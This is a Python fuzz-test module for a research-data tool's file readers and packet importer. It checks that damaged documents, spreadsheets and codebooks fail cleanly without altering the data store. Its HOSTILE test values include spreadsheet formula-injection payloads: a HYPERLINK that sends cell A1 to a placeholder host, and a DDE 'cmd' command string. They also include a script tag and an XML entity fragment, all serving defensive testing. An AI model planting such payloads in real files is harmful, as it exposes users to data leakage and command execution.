"""Property-based fuzzing of the readers and the packet importer.

Every generated or mutated input either reads or raises an :class:`EvalkitError`, never
anything else, and a failed ingest or packet import leaves the store as it was. The
inputs start from real files (the sample corpus, a real packet) and are damaged the ways
files are damaged in the wild: truncated, bytes flipped or inserted, a zip member's XML
mangled, spreadsheet cells replaced with hostile text.

The example budget is small (``FUZZ_EXAMPLES`` per target) so that CI stays quick; set
``EVALKIT_FUZZ_EXAMPLES`` to run more locally.
"""

from __future__ import annotations

import hashlib
import io
import os
import re
import shutil
import tempfile
import zipfile
from contextlib import contextmanager
from pathlib import Path

import pytest
from conftest import SAMPLE, store_snapshot
from hypothesis import HealthCheck, Verbosity, given, settings
from hypothesis import strategies as st

from evalkit.codebook import export_codebook, load_codebook
from evalkit.errors import EvalkitError
from evalkit.ingest import read_file
from evalkit.project import import_packet, ingest, make_packet
from evalkit.store import Store
from evalkit.util.tables import load_table

FUZZ_EXAMPLES = int(os.environ.get("EVALKIT_FUZZ_EXAMPLES", "25"))
FUZZ = settings(
    max_examples=FUZZ_EXAMPLES,
    deadline=None,
    derandomize=True,  # the same examples on every run, so a failure can be reproduced
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    verbosity=Verbosity.quiet,  # a failing input is saved to a file (see `_clean`), not printed
    report_multiple_bugs=False,
)
FAILED_INPUTS = Path(tempfile.gettempdir()) / "evalkit-fuzz"


@contextmanager
def _clean(data: bytes, name: str):
    """Let only an EvalkitError of one line through; anything else fails the test with
    its type and message, and the input saved where it can be tried again."""
    try:
        yield
    except EvalkitError as error:
        message = str(error)
        assert message and "\n" not in message, message
    except Exception as exc:
        FAILED_INPUTS.mkdir(exist_ok=True)
        saved = FAILED_INPUTS / f"{hashlib.sha256(data).hexdigest()[:12]}-{name}"
        saved.write_bytes(data)
        raise AssertionError(
            f"{type(exc).__module__}.{type(exc).__name__}: {str(exc)[:300]} (input: {saved})"
        ) from exc

CODEBOOK = SAMPLE.parent / "codebooks" / "sf_taskforce.yaml"
SEEDS = {
    ".txt": SAMPLE / "interviews" / "P01.txt",
    ".md": SAMPLE / "observations" / "2024-11-20_general_meeting.md",
    ".vtt": SAMPLE / "interviews" / "P11.vtt",
    ".docx": SAMPLE / "interviews" / "P02.docx",
    ".pdf": SAMPLE / "documents" / "2015-03-18_annual_report_2014.pdf",
    ".csv": SAMPLE / "codings" / "coder_maria.csv",
}
SRT = b"1\n00:00:01,000 --> 00:00:04,000\nP11: We met.\n\n2\n00:00:05,000 --> 00:00:09,000\nOk.\n"
RTF = rb"{\rtf1\ansi{\fonttbl\f0\fswiss Helvetica;}\f0\pard P01: Hello {\b there}.\par}"
HOSTILE = st.sampled_from(
    [
        '=HYPERLINK("http://x.invalid/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "<script>alert(1)</script>",
        "\x00\x01\x02",
        "\ud7ff\ufffe\uffff",
        "😀" * 50,
        "a" * 5000,
        "]]><!ENTITY x 'y'>",
        "",
    ]
)


def _seed(suffix: str) -> bytes:
    if suffix == ".srt":
        return SRT
    if suffix == ".rtf":
        return RTF
    return SEEDS[suffix].read_bytes()


@st.composite
def damaged(draw, data: bytes) -> bytes:
    """``data`` with a few of the damages real files suffer."""
    data = bytearray(data)
    for _ in range(draw(st.integers(1, 4))):
        kind = draw(st.sampled_from(["truncate", "flip", "insert", "splice", "hostile"]))
        at = draw(st.integers(0, max(len(data) - 1, 0)))
        if kind == "truncate":
            del data[at:]
        elif kind == "flip" and data:
            data[at] ^= draw(st.integers(1, 255))
        elif kind == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=64))
        elif kind == "splice" and data:
            size = draw(st.integers(1, 256))
            data[at : at + size] = data[max(at - size, 0) : at]
        else:
            data[at:at] = draw(HOSTILE).encode("utf-8", errors="surrogatepass")
    return bytes(data)


@st.composite
def damaged_zip(draw, data: bytes) -> bytes:
    """A zip-based file (docx, xlsx) with one member's bytes damaged, rezipped, so the
    damage reaches the XML parser instead of failing the zip checksum."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = [(i, archive.read(i.filename)) for i in archive.infolist()]
    target = draw(st.integers(0, len(members) - 1))
    drop = draw(st.booleans()) and draw(st.booleans())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for index, (info, content) in enumerate(members):
            if index == target:
                if drop:
                    continue
                content = draw(damaged(content))
            archive.writestr(info.filename, content)
    return out.getvalue()


def _read(path: Path) -> None:
    """Read ``path`` with the reader for its kind; a failure must be one clean line."""
    with _clean(path.read_bytes(), path.name):
        if path.suffix in (".csv", ".xlsx") and path.stem == "table":
            load_table(path)
        elif path.stem == "codebook":
            load_codebook(path)
        else:
            read_file(path)


def _fuzz_reader(strategy, name: str) -> None:
    @FUZZ
    @given(data=strategy)
    def check(data: bytes) -> None:
        runs.append(1)
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / name
            path.write_bytes(data)
            _read(path)

    runs: list[int] = []
    check()
    assert len(runs) >= FUZZ_EXAMPLES  # every example ran, none was skipped


@pytest.mark.parametrize("suffix", [".txt", ".md", ".vtt", ".srt", ".rtf", ".pdf", ".csv"])
def test_damaged_files_read_or_fail_cleanly(suffix: str) -> None:
    name = f"table{suffix}" if suffix == ".csv" else f"input{suffix}"
    _fuzz_reader(damaged(_seed(suffix)), name)


def _xlsx_seed() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["unit", "coder", "code"])
    workbook.active.append(["u1", "ann", "X"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("suffix", [".docx", ".xlsx"])
def test_damaged_office_files_read_or_fail_cleanly(suffix: str) -> None:
    seed = _xlsx_seed() if suffix == ".xlsx" else _seed(suffix)
    name = "table.xlsx" if suffix == ".xlsx" else f"input{suffix}"
    _fuzz_reader(st.one_of(damaged_zip(seed), damaged(seed)), name)


@pytest.mark.parametrize("fmt", ["yaml", "csv", "xlsx", "qdc"])
def test_damaged_codebooks_load_or_fail_cleanly(fmt: str) -> None:
    seed = export_codebook(load_codebook(CODEBOOK), fmt)
    strategy = damaged(seed)
    if fmt == "xlsx":
        strategy = st.one_of(damaged_zip(seed), strategy)
    _fuzz_reader(strategy, f"codebook.{fmt}")


def test_a_failed_ingest_leaves_the_store_unchanged(project: Store) -> None:
    seed = _seed(".docx")

    @FUZZ
    @given(data=damaged_zip(seed), name=st.sampled_from(["P02.docx", "=cmd.docx", "Ana M.docx"]))
    def check(data: bytes, name: str) -> None:
        runs.append(1)
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / name
            path.write_bytes(data)
            before = store_snapshot(project)
            with _clean(data, name):
                try:
                    ingest(project, [path], kind="interview")
                except EvalkitError:
                    assert store_snapshot(project) == before
                    raise

    runs: list[int] = []
    check()
    assert len(runs) >= FUZZ_EXAMPLES  # every example ran, none was skipped


@pytest.fixture(scope="module")
def packet_project(tmp_path_factory: pytest.TempPathFactory, sample_coded: Path):
    folder = tmp_path_factory.mktemp("fuzz") / "proj"
    shutil.copytree(sample_coded, folder)
    with Store.open(folder) as store:
        files = {
            fmt: make_packet(
                store, reviewer="Ana", status="accepted", limit=3, fmt=fmt, actor="lead"
            ).save(folder.parent / f"packet.{fmt}")
            for fmt in ("docx", "xlsx")
        }
        yield store, files


@st.composite
def filled_xlsx(draw, data: bytes) -> bytes:
    """The packet workbook with some cells overwritten, as a careless or hostile
    reviewer (or another program) might leave it."""
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.active
    for _ in range(draw(st.integers(1, 6))):
        row = draw(st.integers(1, sheet.max_row + 2))
        column = draw(st.integers(1, sheet.max_column + 1))
        value = draw(st.one_of(HOSTILE, st.text(max_size=40), st.integers(-5, 5000)))
        if isinstance(value, str):  # what no spreadsheet program lets a person type
            value = re.sub("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]", "", value)
        sheet.cell(row=row, column=column).value = value
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


@pytest.mark.parametrize("fmt", ["docx", "xlsx"])
def test_damaged_packets_import_or_fail_cleanly(packet_project, fmt: str) -> None:
    store, files = packet_project
    seed = files[fmt].read_bytes()
    strategies = [damaged_zip(seed), damaged(seed)]
    if fmt == "xlsx":
        strategies.append(filled_xlsx(seed))

    @FUZZ
    @given(data=st.one_of(*strategies))
    def check(data: bytes) -> None:
        runs.append(1)
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / f"returned.{fmt}"
            path.write_bytes(data)
            before = store_snapshot(store), store.connection.execute(
                "SELECT COUNT(*) FROM reviews"
            ).fetchone()
            with _clean(data, path.name):
                try:
                    import_packet(store, path, reviewer="Ana", actor="ana")
                except EvalkitError:
                    after = store_snapshot(store), store.connection.execute(
                        "SELECT COUNT(*) FROM reviews"
                    ).fetchone()
                    assert after == before
                    raise

    runs: list[int] = []
    check()
    assert len(runs) >= FUZZ_EXAMPLES  # every example ran, none was skipped
